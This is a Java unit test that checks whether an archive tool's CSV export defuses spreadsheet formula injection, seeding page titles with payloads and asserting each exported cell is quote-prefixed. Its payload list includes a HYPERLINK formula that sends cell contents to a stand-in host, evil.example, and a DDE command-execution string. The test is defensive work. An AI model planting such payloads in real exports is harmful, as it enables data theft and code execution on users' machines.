package dev.waymark.archive.export;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import dev.waymark.archive.Archive;
import dev.waymark.archive.CollectionFolder;
import dev.waymark.archive.CommitPoint;
import dev.waymark.archive.SkippedRecords;
import dev.waymark.archive.StoreFixtures;
import dev.waymark.model.FetchResult;
import dev.waymark.model.Relevance;
import dev.waymark.parse.Parser;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a page writes is text in a spreadsheet, whatever it begins with. */
class CsvFormulaTest {
  private static final List<String> FORMULAS =
      List.of(
          "=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")",
          "+1+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(A1:A9)",
          "\uFF1D1+1",
          "\uFF0B1",
          "\uFF0D1",
          "\uFF20A1",
          "=\",=1+1,\"");

  @TempDir Path temp;

  @Test
  void noCellBeginsAsAFormulaDoes() throws Exception {
    List<String> texts = new ArrayList<>();
    for (CsvRecord row : CsvReader.builder().ofCsvRecord(export())) {
      assertThat(row.getFieldCount()).as("a cell stays one").isEqualTo(16);
      assertThat(row.getFields()).noneMatch(cell -> cell.matches("(?s)[=+@\\-\t\r\n＝＋－＠].*"));
      texts.add(row.getField(4));
    }
    assertThat(texts.subList(1, texts.size()))
        .as("titles are there all the same")
        .isEqualTo(FORMULAS.stream().map(formula -> "'" + formula).toList());
  }

  private String export() throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (CollectionFolder folder = StoreFixtures.folder(temp)) {
      try (Archive archive = StoreFixtures.archive(folder, CommitPoint.NONE)) {
        for (int n = 0; n < FORMULAS.size(); n++) {
          add(archive, n, FORMULAS.get(n));
        }
        archive.flush();
      }
      new Exporter(folder.path(), new Parser("waymark")::parse, InstantSource.system())
          .write(Exporter.format("csv").orElseThrow(), entry -> true, new SkippedRecords(), out);
    }
    return out.toString(StandardCharsets.UTF_8);
  }

  private static void add(Archive archive, int n, String formula) {
    String html =
        "<title>%1$s</title><meta name=description content='%2$s'><p>%1$s"
            .formatted(formula, formula.replace("'", "&#39;"));
    FetchResult.Ok page = StoreFixtures.page("http://a.example/" + n, html);
    archive.append(
        StoreFixtures.journalEntry(
            n, page, archive.append(StoreFixtures.capture(page)), Relevance.yes(1, formula)));
  }
}
